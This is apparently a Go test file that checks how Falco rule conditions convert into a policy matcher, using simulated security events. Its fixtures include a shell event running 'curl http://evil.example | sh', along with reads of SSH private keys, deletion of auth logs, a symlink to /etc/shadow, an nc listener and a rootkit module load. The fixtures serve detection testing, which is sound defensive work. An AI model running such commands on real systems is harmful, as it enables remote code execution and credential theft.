package falco

import (
	"strings"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/policy"
)

// Events as tests write them. Each is what a sensor would deliver.
const (
	shellEvent = `
kind: exec
process: {pid: 40, ns_pid: 7, start: 1, name: bash, path: /usr/bin/bash, args: [/bin/bash, -c, "curl http://evil.example | sh"], cwd: /dev/shm, uid: 0, gid: 0,
  login_uid: 4294967295, tty: pts/0, session: 9, origin: created, inode: 77, env: ["LD_PRELOAD=/tmp/x.so"], capabilities: [CAP_SYS_ADMIN], permitted: [CAP_SYS_ADMIN, CAP_NET_RAW],
  parent: {pid: 30, ns_pid: 1, start: 1, name: nginx, path: /usr/sbin/nginx, args: [nginx, -g, "daemon off;"], uid: 33, cwd: /,
    parent: {pid: 20, start: 1, name: containerd-shim, path: /usr/bin/containerd-shim, args: [containerd-shim], uid: 0}}}
workload: {kind: container, container: {id: 0123456789abcdef, name: web, image: "docker.io/library/nginx:1.27", digest: "sha256:aa", runtime: containerd, privileged: true, labels: {tier: front},
    mounts: [{source: /proc, target: /host/proc}, {source: /var/run/docker.sock, target: /docker.sock}]},
  pod: {namespace: shop, name: cart-1, uid: u1, owner_kind: Deployment, owner_name: cart, labels: {app: cart}}}
`
	hostEvent    = "kind: exec\nprocess: {pid: 5, start: 1, name: ls, path: /bin/ls, args: [ls], uid: 1000, gid: 1000, login_uid: 1000, cwd: /}\nworkload: {kind: host, node: node-1}\n"
	readEvent    = "kind: open\nprocess: {pid: 5, start: 1, name: cat, path: /bin/cat, args: [cat], uid: 1000}\nfile: {path: /home/ann/.ssh/id_rsa, access: [read], mode: \"100600\"}\n"
	writeEvent   = "kind: open\nprocess: {pid: 5, start: 1, name: vi, path: /bin/vi, args: [vi], uid: 0}\nfile: {path: /etc/passwd, access: [read, write, truncate], mode: \"100644\"}\n"
	createEvent  = "kind: create\nprocess: {pid: 5, start: 1, name: sh, path: /bin/sh, args: [sh], uid: 0}\nfile: {path: /dev/.hidden, access: [write, create], mode: \"100755\"}\n"
	mkdirEvent   = "kind: create\nprocess: {pid: 5, start: 1, name: mkdir, path: /bin/mkdir, args: [mkdir], uid: 0}\nfile: {path: /usr/bin/.x, mode: \"40755\"}\n"
	dirEvent     = "kind: open\nprocess: {pid: 5, start: 1, name: ls, path: /bin/ls, args: [ls], uid: 0}\nfile: {path: /root/.ssh, access: [read], mode: \"40700\"}\n"
	renameEvent  = "kind: rename\nprocess: {pid: 5, start: 1, name: mv, path: /bin/mv, args: [mv], uid: 0}\nfile: {path: /root/.bash_history, target: /tmp/.h}\n"
	unlinkEvent  = "kind: unlink\nprocess: {pid: 5, start: 1, name: rm, path: /bin/rm, args: [rm], uid: 0}\nfile: {path: /var/log/auth.log}\n"
	chmodEvent   = "kind: chmod\nprocess: {pid: 5, start: 1, name: chmod, path: /bin/chmod, args: [chmod], uid: 0}\nfile: {path: /tmp/x, mode: \"104755\", old_mode: \"100644\"}\n"
	linkEvent    = "kind: symlink\nprocess: {pid: 5, start: 1, name: ln, path: /bin/ln, args: [ln], uid: 0}\nfile: {path: /tmp/l, target: /etc/shadow}\n"
	dialEvent    = "kind: connect\nresult: 115\nprocess: {pid: 5, start: 1, name: curl, path: /usr/bin/curl, args: [curl], uid: 0}\nconnection: {protocol: tcp, local: \"10.0.0.7:40000\", remote: \"203.0.113.9:443\", name: pool.example, outgoing: true}\n"
	failEvent    = "kind: connect\nresult: 111\nprocess: {pid: 5, start: 1, name: curl, path: /usr/bin/curl, args: [curl], uid: 0}\nconnection: {protocol: tcp, local: \"10.0.0.7:40000\", remote: \"203.0.113.9:443\", outgoing: true}\n"
	acceptEvent  = "kind: accept\nprocess: {pid: 5, start: 1, name: nc, path: /usr/bin/nc, args: [nc], uid: 0}\nconnection: {protocol: tcp, local: \"10.0.0.7:8080\", remote: \"192.0.2.1:55555\"}\n"
	sendEvent    = "kind: send\nprocess: {pid: 5, start: 1, name: dig, path: /usr/bin/dig, args: [dig], uid: 0}\nconnection: {protocol: udp, local: \"[2001:db8::7]:40000\", remote: \"[2001:db8::53]:53\", outgoing: true}\n"
	listenEvent  = "kind: listen\nprocess: {pid: 5, start: 1, name: nc, path: /usr/bin/nc, args: [nc], uid: 0}\nconnection: {protocol: tcp, local: \"0.0.0.0:31337\"}\n"
	unixEvent    = "kind: connect\nprocess: {pid: 5, start: 1, name: docker, path: /usr/bin/docker, args: [docker], uid: 0}\nconnection: {protocol: unix, path: /run/docker.sock}\n"
	setuidEvent  = "kind: credentials\nprocess: {pid: 5, start: 1, name: x, path: /tmp/x, args: [x], uid: 0}\nchange: {old_uid: 1000, uid: 0, old_euid: 1000, euid: 0}\n"
	setnsEvent   = "kind: namespace\nprocess: {pid: 5, start: 1, name: nsenter, path: /usr/bin/nsenter, args: [nsenter], uid: 0}\nnamespace: {kinds: [mnt, pid], entered: true, to_host: true}\n"
	unshEvent    = "kind: namespace\nprocess: {pid: 5, start: 1, name: unshare, path: /usr/bin/unshare, args: [unshare], uid: 0}\nnamespace: {kinds: [user]}\n"
	mountEvent   = "kind: mount\nprocess: {pid: 5, start: 1, name: mount, path: /bin/mount, args: [mount], uid: 0}\nmount: {source: /dev/sda1, target: /mnt, type: ext4, flags: 4096}\n"
	tracemeEvent = "kind: traceme\nprocess: {pid: 9, start: 1, name: packed, path: /tmp/packed, args: [packed], uid: 0}\ntarget: {pid: 5, start: 1, name: bash, uid: 0}\n"
	faultEvent   = "kind: userfaultfd\nprocess: {pid: 9, start: 1, name: racer, path: /tmp/racer, args: [racer], uid: 1000}\n"
	ptraceEvent  = "kind: ptrace\nprocess: {pid: 5, start: 1, name: gdb, path: /usr/bin/gdb, args: [gdb], uid: 0}\ntarget: {pid: 9, start: 1, name: sshd, uid: 0}\n"
	memfdEvent   = "kind: memfd\nprocess: {pid: 5, start: 1, name: x, path: /tmp/x, args: [x], uid: 0}\nfile: {path: \"memfd:a\"}\n"
	moduleEvent  = "kind: module\nprocess: {pid: 5, start: 1, name: insmod, path: /sbin/insmod, args: [insmod], uid: 0, capabilities: [CAP_SYS_MODULE]}\nobject: {name: rootkit}\n"
	bpfEvent     = "kind: bpf\nprocess: {pid: 5, start: 1, name: x, path: /tmp/x, args: [x], uid: 0}\nobject: {name: prog}\n"
	packetEvent  = "kind: socket\nprocess: {pid: 5, start: 1, name: tcpdump, path: /usr/bin/tcpdump, args: [tcpdump], uid: 0}\nconnection: {protocol: packet}\n"
	killEvent    = "kind: signal\nsignal: 9\nprocess: {pid: 5, start: 1, name: kill, path: /bin/kill, args: [kill], uid: 0}\ntarget: {pid: 9, start: 1, name: falcon, uid: 0}\n"
	forkEvent    = "kind: fork\nprocess: {pid: 5, start: 1, name: sh, path: /bin/sh, args: [sh], uid: 0}\n"
	exitEvent    = "kind: exit\nprocess: {pid: 5, start: 1, name: sh, path: /bin/sh, args: [sh], uid: 0}\n"
)

func event(t testing.TB, text string) *bollwerk.Event {
	t.Helper()
	var m map[string]any
	if err := yaml.Unmarshal([]byte(text), &m); err != nil {
		t.Fatal(err)
	}
	e, err := policy.ParseEvent(m)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func options() Options {
	return Options{Users: map[string]uint32{"root": 0, "www-data": 33, "ann": 1000}, Variables: []string{"LD_PRELOAD", "GLIBC_TUNABLES"}}
}

// one loads a file with a rule of that condition.
func one(t *testing.T, condition string) *Rule {
	t.Helper()
	doc, err := yaml.Marshal([]map[string]any{{"rule": "R", "desc": "d", "condition": condition, "output": "o", "priority": "WARNING"}})
	if err != nil {
		t.Fatal(err)
	}
	s, err := Load([]File{{"t.yaml", doc}}, options())
	if err != nil {
		t.Fatalf("%s: %v", condition, err)
	}
	return s.Rules[0]
}

// holds reports whether the rule matches the event, asking the matcher, and that CEL's
// own evaluator says the same.
func holds(t *testing.T, r *Rule, e *bollwerk.Event) bool {
	t.Helper()
	if r.Policy == nil {
		return false
	}
	m, problems := policy.NewMatcher([]*policy.Policy{r.Policy}, policy.MatcherOptions{})
	for _, p := range problems {
		t.Fatalf("%s\n%s", p, r.Policy.Match.Text)
	}
	found := len(m.Match(&policy.Scratch{}, e)) > 0
	engine, err := policy.New(policy.Options{Now: time.Unix(0, 0)})
	if err != nil {
		t.Fatal(err)
	}
	ds, err := engine.Evaluate(t.Context(), policy.EventKind, e, []*policy.Policy{r.Policy})
	if err != nil {
		t.Fatal(err)
	}
	if slow := ds[0].Verdict == bollwerk.Fail; slow != found {
		t.Fatalf("the matcher says %v, CEL says %v (%s): %s", found, slow, ds[0].Cause, r.Policy.Match.Text)
	}
	return found
}

func TestConditions(t *testing.T) {
	const exact, partly, not = Exact, Partly, Not
	for _, c := range []struct {
		condition string
		event     string
		want      bool
		verdict   Verdict
	}{
		// Operators.
		{`proc.name = bash`, shellEvent, true, exact},
		{`proc.name == bash`, shellEvent, true, exact},
		{`proc.name=bash`, hostEvent, false, exact},
		{`proc.name != bash`, hostEvent, true, exact},
		{`proc.name in (sh, bash, "puma reactor")`, shellEvent, true, exact},
		{`proc.name in ()`, shellEvent, false, exact},
		{`not proc.name in (sh, bash)`, shellEvent, false, exact},
		{`proc.name contains as`, shellEvent, true, exact},
		{`proc.name icontains AS`, shellEvent, true, exact},
		{`proc.name startswith ba`, shellEvent, true, exact},
		{`proc.name endswith sh`, shellEvent, true, exact},
		{`proc.name endswith ba`, shellEvent, false, exact},
		{`proc.name glob b*h`, shellEvent, true, exact},
		{`proc.name glob b?h`, shellEvent, false, exact},
		{`proc.name iglob B*H`, shellEvent, true, exact},
		{`proc.name glob b[a]sh`, shellEvent, false, not},
		{`proc.name regex "b.sh"`, shellEvent, true, exact},
		{`proc.name regex "b.s"`, shellEvent, false, exact},
		{`proc.name regex "(b"`, shellEvent, false, not},
		{`proc.name exists`, shellEvent, true, exact},
		{`proc.aname intersects (nginx, apache2)`, shellEvent, true, exact},
		{`fd.name pmatch (/etc, /usr)`, writeEvent, true, exact},
		{`fd.name pmatch (/et, /usr)`, writeEvent, false, exact},
		{`fd.name pmatch (/home/*/.ssh)`, readEvent, true, exact},
		{`proc.pid < 41 and proc.pid <= 40 and proc.pid > 39 and proc.pid >= 40`, shellEvent, true, exact},
		{`proc.pid < 40`, shellEvent, false, exact},
		{`not (proc.name = bash or proc.name = sh) or proc.pname = nginx`, shellEvent, true, exact},
		{`proc.name = bash and not not proc.pname = nginx`, shellEvent, true, exact},
		{`(proc.name = 'bash')`, shellEvent, true, exact},
		{`tolower(proc.name) = bash`, shellEvent, true, exact},
		{`toupper(proc.name) = BASH`, shellEvent, true, exact},
		{`toupper(proc.name) = bash`, shellEvent, false, exact},
		{`basename(proc.exepath) = bash`, shellEvent, true, exact},
		{`len(proc.name) = 4`, shellEvent, true, exact},
		{`len(proc.name) > 4`, shellEvent, false, exact},
		{`proc.name = val(proc.pname)`, shellEvent, false, exact},
		{`proc.name != val(proc.pname)`, shellEvent, true, exact},
		{`proc.name != val(proc.pname)`, hostEvent, false, exact}, // there is no parent
		{`b64(proc.name) = YmFzaA`, shellEvent, false, not},
		{`proc.args bcontains cafe`, shellEvent, false, not},

		// Processes.
		{`proc.cmdline = "bash -c curl http://evil.example | sh"`, shellEvent, true, exact},
		{`proc.cmdline startswith "bash -c curl"`, shellEvent, true, exact},
		{`proc.cmdline = ls`, hostEvent, true, exact},
		{`proc.args = ""`, hostEvent, true, exact},
		{`proc.args startswith "-c "`, shellEvent, true, exact},
		{`proc.exe = /bin/bash`, shellEvent, true, exact},
		{`proc.exe = /bin/bas`, shellEvent, false, exact},
		{`proc.exe endswith bash`, shellEvent, true, exact},
		{`proc.exe endswith sh and proc.exe startswith /bin/`, shellEvent, true, exact},
		{`proc.exe endswith curl`, shellEvent, false, exact},
		{`proc.exe endswith ls`, hostEvent, true, exact},
		{`proc.exe contains in/ba`, shellEvent, true, exact},
		{`proc.exe contains curl`, shellEvent, false, exact},
		{`proc.exe != ls`, shellEvent, true, exact},
		{`proc.exe in (ls, cat)`, hostEvent, true, exact},
		{`proc.exepath = /usr/bin/bash`, shellEvent, true, exact},
		{`proc.exeline contains "/bin/bash -c"`, shellEvent, true, exact},
		{`proc.pname = nginx and proc.pexe = nginx and proc.pexepath = /usr/sbin/nginx`, shellEvent, true, exact},
		{`proc.pcmdline startswith "nginx -g daemon"`, shellEvent, true, exact},
		{`proc.pname exists`, shellEvent, true, exact},
		{`proc.pname exists`, hostEvent, false, exact},
		{`not proc.pname exists`, hostEvent, true, exact},
		{`proc.pname != nginx`, hostEvent, false, exact}, // nothing is not another name
		{`not proc.pname = nginx`, hostEvent, true, exact},
		{`proc.aname = containerd-shim`, shellEvent, true, exact},
		{`proc.aname = bash`, shellEvent, false, exact}, // itself is none of them
		{`proc.aname in (foo, nginx)`, shellEvent, true, exact},
		{`proc.aname startswith containerd`, shellEvent, true, exact},
		{`proc.aname[0] = bash and proc.aname[1] = nginx and proc.aname[2] = containerd-shim`, shellEvent, true, exact},
		{`proc.aname[3] exists`, shellEvent, false, exact},
		{`proc.aexepath[2] endswith shim`, shellEvent, true, exact},
		{`proc.acmdline contains "daemon off"`, shellEvent, true, exact},
		{`proc.aexe = nginx`, shellEvent, true, exact},
		{`proc.aname[99] = init`, shellEvent, false, not},
		{`proc.pid = 40 and proc.ppid = 30 and proc.vpid = 7 and proc.pvpid = 1 and proc.sid = 9`, shellEvent, true, exact},
		{`proc.cwd = /dev/shm/ and proc.cwd startswith /dev/shm/`, shellEvent, true, exact},
		{`proc.cwd = /`, hostEvent, true, exact},
		{`proc.tty != 0`, shellEvent, true, exact},
		{`proc.tty = 0`, hostEvent, true, exact},
		{`proc.tty = 34816`, shellEvent, false, not},
		{`proc.is_exe_upper_layer = true`, shellEvent, true, exact},
		{`proc.is_exe_upper_layer = false`, hostEvent, true, exact},
		{`proc.is_exe_from_memfd = true`, shellEvent, false, exact},
		{`proc.env icontains ld_preload`, shellEvent, true, exact},
		{`proc.env[LD_PRELOAD] startswith /tmp`, shellEvent, true, exact},
		{`proc.env contains HTTP_PROXY`, shellEvent, false, not},
		{`proc.duration <= 5000000000`, shellEvent, true, exact},
		{`proc.duration > 5000000000`, shellEvent, false, exact},
		{`proc.is_vpgid_leader = true`, shellEvent, false, not},
		{`proc.exe_ino = 77`, shellEvent, true, exact},

		// Users, rights.
		{`user.uid = 0 and user.name = root and user.name in (root)`, shellEvent, true, exact},
		{`user.name != root`, hostEvent, true, exact},
		{`user.name = ann`, hostEvent, true, partly},
		{`user.name in (www-data, nobody)`, hostEvent, false, partly},
		{`user.name != www-data`, hostEvent, true, partly},
		{`user.loginuid = -1`, shellEvent, true, exact},
		{`user.loginuid != 0`, hostEvent, true, exact},
		{`group.gid = 0 and group.name = root`, shellEvent, true, exact},
		{`group.name = wheel`, hostEvent, false, not},
		{`thread.cap_permitted contains CAP_NET_RAW`, shellEvent, true, exact},
		{`thread.cap_permitted icontains net_raw`, shellEvent, true, exact},
		{`thread.cap_effective contains CAP_NET_RAW`, shellEvent, false, exact},
		{`thread.cap_inheritable contains CAP_NET_RAW`, shellEvent, false, not},

		// Where.
		{`container.id != host`, shellEvent, true, exact},
		{`container.id = host`, hostEvent, true, exact},
		{`container.id = 0123456789ab`, shellEvent, true, exact},
		{`container.id exists`, hostEvent, true, exact},
		{`container.name = web and container.type = containerd`, shellEvent, true, exact},
		{`container.name = host`, hostEvent, true, exact},
		{`container.image = "docker.io/library/nginx:1.27"`, shellEvent, true, exact},
		{`container.image.repository = docker.io/library/nginx and container.image.tag = 1.27`, shellEvent, true, exact},
		{`container.image.repository != foo`, hostEvent, false, exact},
		{`not container.image.repository in (foo)`, hostEvent, true, exact},
		{`container.image.digest = sha256:aa`, shellEvent, true, exact},
		{`container.privileged = true`, shellEvent, true, exact},
		{`container.privileged = false`, hostEvent, false, exact},
		{`container.label[tier] = front`, shellEvent, true, exact},
		{`container.mount.dest[/proc*] != "N/A"`, shellEvent, true, exact},
		{`not container.mount.dest[/var/run/docker.sock] in ("<NA>","N/A")`, shellEvent, true, exact},
		{`container.mount.dest[/etc] exists`, shellEvent, false, exact},
		{`container.image.id = abc`, shellEvent, false, not},
		{`k8s.ns.name = shop and k8s.pod.name startswith cart and k8s.pod.label[app] = cart`, shellEvent, true, exact},
		{`k8s.deployment.name = cart and k8smeta.ns.name = shop`, shellEvent, true, exact},
		{`k8s.rs.name exists`, shellEvent, false, exact},
		{`k8s.ns.name != shop`, hostEvent, false, exact},
		{`evt.hostname = node-1`, hostEvent, true, exact},

		// Calls and files.
		{`evt.type = execve`, shellEvent, true, partly},
		{`evt.type in (execve, execveat)`, shellEvent, true, exact},
		{`evt.type in (execve, execveat) and evt.dir = <`, shellEvent, true, exact},
		{`evt.type in (execve, execveat) and evt.dir = >`, shellEvent, true, partly},
		{`evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.typechar = 'f' and fd.num >= 0`, readEvent, true, exact},
		{`evt.type in (open, openat, openat2) and evt.is_open_read = true and fd.typechar = 'f' and fd.num >= 0`, dirEvent, false, exact},
		{`evt.type in (open, openat, openat2) and fd.typechar = 'd'`, dirEvent, true, exact},
		{`evt.type in (open, openat, openat2) and fd.type = directory`, readEvent, false, exact},
		{`evt.type in (open, openat, openat2) and evt.is_open_write = true`, readEvent, false, exact},
		{`evt.type in (open, openat, openat2) and evt.is_open_write = true`, writeEvent, true, exact},
		{`evt.type in (open, openat, openat2) and evt.is_open_write = true`, createEvent, true, exact},
		{`evt.type in (open, openat, openat2) and evt.is_open_write = true`, mkdirEvent, false, exact},
		{`evt.is_open_exec = true`, createEvent, true, exact},
		{`evt.arg.flags contains O_CREAT`, createEvent, true, exact},
		{`evt.arg.flags contains O_TRUNC`, writeEvent, true, exact},
		{`evt.arg.flags contains O_TRUNC`, readEvent, false, exact},
		{`evt.arg.flags contains O_NOFOLLOW`, readEvent, false, not},
		{`fd.name = /etc/passwd and fd.directory = /etc and fd.filename = passwd`, writeEvent, true, exact},
		{`fd.name glob /home/*/.ssh/*`, readEvent, true, exact},
		{`fd.nameraw contains ../`, readEvent, false, not},
		{`fd.name = /etc/passwd`, shellEvent, false, exact},
		{`fs.path.name startswith /var/log`, unlinkEvent, true, exact},
		{`fs.path.source endswith history and fs.path.target startswith /tmp`, renameEvent, true, exact},
		{`evt.type in (mkdir, mkdirat) and evt.arg.path contains "/."`, mkdirEvent, true, exact},
		{`evt.type in (mkdir, mkdirat)`, createEvent, false, exact},
		{`evt.type in (rename, renameat, renameat2) and evt.arg.oldpath endswith history and evt.arg.newpath = /tmp/.h`, renameEvent, true, exact},
		{`evt.type in (rmdir, unlink, unlinkat) and evt.arg.path startswith /var/log`, unlinkEvent, true, exact},
		{`evt.type in (unlink, unlinkat) and evt.arg.name startswith /var/log`, unlinkEvent, true, exact},
		{`evt.type in (chmod, fchmod, fchmodat) and evt.arg.mode contains S_ISUID`, chmodEvent, true, exact},
		{`evt.type in (chmod, fchmod, fchmodat) and evt.arg.mode contains "S_ISGID"`, chmodEvent, false, exact},
		{`evt.type in (chmod, fchmod, fchmodat) and evt.arg.mode contains S_IXOTH and evt.arg.filename = /tmp/x`, chmodEvent, true, exact},
		{`evt.type in (symlink, symlinkat) and evt.arg.target in (/etc/shadow) and evt.arg.linkpath = /tmp/l`, linkEvent, true, exact},
		{`evt.type = setns and evt.arg.nstype contains CLONE_NEWNS`, setnsEvent, true, exact},
		{`evt.type = setns`, unshEvent, false, exact},
		{`evt.type = unshare and evt.arg.flags contains CLONE_NEWUSER`, unshEvent, true, exact},
		{`evt.type = mount and evt.arg.dev = /dev/sda1 and evt.arg.dir = /mnt and evt.arg.type = ext4 and evt.arg.flags contains MS_BIND`, mountEvent, true, exact},
		{`evt.type = ptrace and evt.arg.request contains PTRACE_ATTACH`, ptraceEvent, true, exact},
		{`evt.type = ptrace and evt.arg.request contains PTRACE_TRACEME`, ptraceEvent, false, exact},
		{`evt.type = ptrace and evt.arg.request contains PTRACE_TRACEME`, tracemeEvent, true, exact},
		{`evt.type = ptrace and (evt.arg.request contains PTRACE_ATTACH or evt.arg.request contains PTRACE_POKETEXT)`, tracemeEvent, false, exact},
		{`evt.type = ptrace and (evt.arg.request contains PTRACE_POKETEXT or evt.arg.request contains PTRACE_SEIZE)`, ptraceEvent, true, exact},
		{`evt.type = memfd_create`, memfdEvent, true, exact},
		{`evt.type in (init_module, finit_module) and thread.cap_effective icontains sys_module`, moduleEvent, true, exact},
		{`evt.type = bpf and (evt.arg.cmd = 5 or evt.arg.cmd = BPF_PROG_LOAD)`, bpfEvent, true, exact},
		{`evt.type = socket and evt.arg.domain contains AF_PACKET`, packetEvent, true, exact},
		{`evt.type = setuid and evt.arg.uid = 0 and user.uid != 0`, setuidEvent, true, partly},
		{`evt.type = setuid and evt.arg.uid = root and user.uid = 1000`, setuidEvent, true, partly},
		{`evt.type = kill and evt.arg.sig = 9 and evt.arg.pid = 9`, killEvent, true, partly}, // kill, tkill or tgkill
		{`evt.type in (clone, clone3, fork, vfork)`, forkEvent, true, exact},
		{`evt.type = procexit`, exitEvent, true, exact},
		{`evt.type in (dup, dup2)`, shellEvent, false, not},
		{`evt.type = userfaultfd or proc.name = bash`, shellEvent, true, exact},
		{`evt.type = userfaultfd and user.uid != 0 and (evt.rawres >= 0 or evt.res != -1)`, faultEvent, true, exact},
		{`evt.type = userfaultfd and user.uid = 0`, faultEvent, false, exact},
		{`evt.type = openat2`, readEvent, true, partly},
		{`evt.num = 0`, shellEvent, false, exact},
		{`proc.name = bash and not (evt.num = 0)`, shellEvent, true, exact},
		{`evt.buffer contains x`, readEvent, false, not},

		// Connections.
		{`evt.type = connect and (evt.rawres >= 0 or evt.res = EINPROGRESS)`, dialEvent, true, exact},
		{`evt.type = connect and (evt.rawres >= 0 or evt.res = EINPROGRESS)`, failEvent, false, exact},
		{`evt.type = connect and evt.rawres < 0`, failEvent, true, exact},
		{`evt.type = connect and evt.rawres = -111 and evt.res = ECONNREFUSED`, failEvent, true, exact},
		{`evt.type = connect and evt.failed = true and evt.res startswith E`, failEvent, true, exact},
		{`evt.type = accept and evt.rawres in (0, 1, 2)`, acceptEvent, false, not},
		{`fd.typechar = 4 and fd.type = ipv4 and fd.sockfamily = ip and fd.l4proto = tcp`, dialEvent, true, exact},
		{`fd.typechar = 6`, dialEvent, false, exact},
		{`fd.typechar = 6 and fd.type in (ipv4, ipv6)`, sendEvent, true, exact},
		{`fd.type = unix and fd.name endswith /docker.sock`, unixEvent, true, exact},
		{`fd.name = /run/docker.sock`, unixEvent, true, exact},
		{`fd.name != /run/docker.sock`, unixEvent, false, exact},
		{`evt.type = connect and fd.name contains 443`, dialEvent, false, not},
		{`fd.sockfamily = ip`, unixEvent, false, exact},
		{`fd.sip = "203.0.113.9" and fd.sport = 443 and fd.cip = 10.0.0.7 and fd.cport = 40000`, dialEvent, true, exact},
		{`fd.rip = "203.0.113.9" and fd.rport = "443" and fd.lip = 10.0.0.7 and fd.lport = 40000`, dialEvent, true, exact},
		{`fd.sip = 10.0.0.7 and fd.sport = 8080 and fd.cip = 192.0.2.1`, acceptEvent, true, exact},
		{`fd.snet in ("203.0.113.0/24", 10.0.0.0/8) and fd.net = 10.0.0.0/8`, dialEvent, true, exact},
		{`fd.net != "127.0.0.0/8" and fd.ip != "0.0.0.0"`, dialEvent, true, exact},
		{`fd.ip != "203.0.113.9"`, dialEvent, false, exact},
		{`fd.ip = "0.0.0.0" and fd.sport = 31337`, listenEvent, true, exact},
		{`fd.cip = 192.0.2.1`, listenEvent, false, exact},
		{`fd.port in (443, 80)`, dialEvent, true, exact},
		{`fd.port != 443`, dialEvent, false, exact},
		{`fd.sport >= 30000 and fd.sport <= 32767`, listenEvent, true, exact},
		{`fd.sip.name = pool.example`, dialEvent, true, partly},
		{`evt.type in (sendto, sendmsg) and fd.connected = false and fd.name_changed = true and fd.l4proto != tcp`, sendEvent, true, exact},
		{`fd.sip = not-an-address`, dialEvent, false, not},
	} {
		r := one(t, c.condition)
		if r.Verdict != c.verdict {
			t.Errorf("%s: verdict %s, want %s: %q", c.condition, r.Verdict, c.verdict, r.Reasons)
		}
		if (r.Verdict == Exact) != (len(r.Reasons) == 0) && !strings.Contains(strings.Join(r.Reasons, ""), "never holds") {
			t.Errorf("%s: verdict %s with reasons %q", c.condition, r.Verdict, r.Reasons)
		}
		if got := holds(t, r, event(t, c.event)); got != c.want {
			text := ""
			if r.Policy != nil {
				text = r.Policy.Match.Text
			}
			t.Errorf("%s holds: %v, want %v\n%.600s", c.condition, got, c.want, text)
		}
	}
}
